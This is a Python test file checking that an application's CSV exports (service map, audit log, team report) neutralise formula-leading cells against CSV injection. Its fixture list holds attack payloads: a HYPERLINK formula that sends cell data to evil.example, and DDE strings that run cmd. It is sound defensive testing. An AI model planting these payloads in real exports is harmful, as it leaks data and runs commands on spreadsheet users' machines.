"""No CSV the program writes starts a cell with a formula (OWASP's CSV injection rule)."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

from hypothesis import given, strategies as st

from tyokykytiimi import csv_safe
from tyokykytiimi.store import servicemap as sm

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klikkaa")', "+358 40 123 4567",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def _dangerous(cells) -> list[str]:
    return [c for c in cells if c.startswith(csv_safe.TRIGGERS)]


@given(st.text())
def test_any_text_is_safe_and_comes_back(text):
    safe = csv_safe.neutralise(text)
    assert not safe.startswith(csv_safe.TRIGGERS)
    assert csv_safe.restore(safe) == text or (text.startswith("'") and text[1:].startswith(
        csv_safe.TRIGGERS))


def test_numbers_stay_numbers():
    out = io.StringIO()
    csv_safe.writer(out).writerow([-5, 2.5, "-5"])
    assert out.getvalue().strip() == "-5,2.5,'-5"


def test_service_map_export_neutralises_and_reimports(store, tmp_path):
    data = {"format": "tyokykytiimi-servicemap", "version": 1,
            "organisations": [{"ref": "x1", "name": FORMULAS[0], "sector": "social_services",
                               "area": FORMULAS[3], "phone": FORMULAS[1],
                               "services": [], "contacts": [
                                   {"ref": "c1", "name": FORMULAS[2], "title": FORMULAS[4],
                                    "phone": FORMULAS[1]}]}]}
    source = tmp_path / "map.json"
    import json
    source.write_text(json.dumps(data), "utf-8")
    result = sm.import_file(store, source)
    assert result.created, result
    out = tmp_path / "map.csv"
    sm.export_csv(store, out)
    cells = _cells(out.read_text("utf-8"))
    assert _dangerous(cells) == []
    assert "'" + FORMULAS[0] in cells
    # Read back by the program itself: the apostrophe goes again.
    org = next(o for o in sm.list_organisations(store) if o.ref == "x1")
    rows, problems = sm.parse_csv(out.read_text("utf-8"))
    assert not problems
    names = {raw["name"] for _line, raw in rows}
    assert org.name in names and FORMULAS[2] in names


def test_audit_csv_neutralises_a_typed_username(store, data_dir):
    from tyokykytiimi.reports.audit_csv import audit_csv
    from tyokykytiimi.store import audit
    from tyokykytiimi.store.errors import UnknownUser
    from tyokykytiimi.store.unlock import open_store
    from tests.conftest import ADMIN, PASSWORD
    store.close()
    try:
        open_store(data_dir, FORMULAS[0], "x")  # anyone at the sign-in screen
    except UnknownUser:
        pass
    again = open_store(data_dir, ADMIN, PASSWORD)
    try:
        cells = _cells(audit_csv(audit.list_entries(again)))
    finally:
        again.close()
    assert "'" + FORMULAS[0] in cells
    assert _dangerous(cells) == []


def test_team_report_csv_neutralises_a_title(store, tmp_path):
    from tests.store.team_report_data import END, START, build
    from tyokykytiimi.reports.team_report_csv import write_team_report_csv
    from tyokykytiimi.store import meetings as mt
    from tyokykytiimi.store import team_report as tr
    c = build(store)
    for title in FORMULAS[:4]:
        mt.save_meeting(store, c["K1"].id, kind="follow_up",
                        starts_at=datetime(2026, 4, 2, 9, tzinfo=timezone.utc), place="Huone",
                        state="held", invitees=[{"kind": "team", "user_id": store.user.id,
                                                 "name": "Kaisa", "title": title,
                                                 "status": "attended"}])
    folder = write_team_report_csv(store, tr.team_report(store, START, END, lang="fi"), tmp_path)
    cells = [c for f in folder.glob("*.csv") for c in _cells(f.read_text("utf-8"))]
    assert "'" + FORMULAS[0] in cells  # the title did reach a table
    assert _dangerous(cells) == []
